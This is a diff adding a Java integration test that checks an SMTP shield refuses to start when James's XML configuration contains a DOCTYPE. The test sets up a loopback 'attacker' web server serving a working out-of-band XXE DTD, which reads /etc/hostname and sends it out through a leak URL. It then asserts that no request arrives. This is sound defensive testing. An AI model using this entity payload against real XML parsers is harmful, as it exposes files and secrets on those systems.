@@ -1,10 +1,21 @@
 package io.github.smtpshield.e2e;
 
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.sun.net.httpserver.HttpServer;
+import io.github.smtpshield.testing.FreePorts;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetSocketAddress;
+import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
 import org.junit.jupiter.api.Test;
 
-/** The packaged server refuses to start as an open relay or with a bad policy file, with one clear line. */
+/**
+ * The packaged server refuses to start as an open relay, with a bad policy file or with a DOCTYPE in James's XML
+ * configuration, with one clear line.
+ */
 class StartupGuardIT {
     private static final String PORT25_AUTHORIZED = "<authorizedAddresses>127.0.0.0/8</authorizedAddresses>";
 
@@ -84,6 +95,48 @@ class StartupGuardIT {
             assertThat(server.output())
                     .contains("[ERROR] smtpshield - SMTP Shield refuses to start: conf/smtpshield.xml: file not found"
                             + " (the shield is enabled in extensions.properties, so it needs its policy file)");
+        }
+    }
+
+    /**
+     * An external parameter entity in smtpserver.xml made James's configuration loader fetch a URL, and through it
+     * send {@code /etc/hostname} out, at start-up. The shield checks James's XML files before anything of the shield
+     * reads them: the loopback web server the entity points at must see no request at all.
+     */
+    @Test
+    void refusesToStartOnADoctypeInJamesConfWithoutFetchingItsEntities() throws IOException {
+        int port = FreePorts.take();
+        List<String> requests = new CopyOnWriteArrayList<>();
+        HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 0);
+        attacker.createContext("/", exchange -> {
+            requests.add(exchange.getRequestURI().toString());
+            byte[] dtd = ("<!ENTITY % hostname SYSTEM \"file:///etc/hostname\">\n"
+                            + "<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port
+                            + "/leak?%hostname;'>\">\n%send;\n%leak;\n")
+                    .getBytes(UTF_8);
+            exchange.sendResponseHeaders(200, dtd.length);
+            try (OutputStream body = exchange.getResponseBody()) {
+                body.write(dtd);
+            }
+        });
+        attacker.start();
+        try (ShieldServer server = ShieldServer.prepare()) {
+            server.editConf(
+                    "smtpserver.xml",
+                    xml -> xml.replace(
+                            "<?xml version=\"1.0\"?>\n",
+                            "<?xml version=\"1.0\"?>\n<!DOCTYPE smtpservers [<!ENTITY % remote SYSTEM"
+                                    + " \"http://127.0.0.1:" + port + "/james.dtd\"> %remote;]>\n"));
+
+            assertThat(server.startExpectingFailure()).isNotZero();
+            assertThat(requests)
+                    .as("requests the server made to the entity's URL")
+                    .isEmpty();
+            assertThat(server.output())
+                    .contains("[ERROR] smtpshield - SMTP Shield refuses to start: conf/smtpserver.xml: line 2:"
+                            + " malformed XML: DOCTYPE is disallowed");
+        } finally {
+            attacker.stop(0);
         }
     }
 }
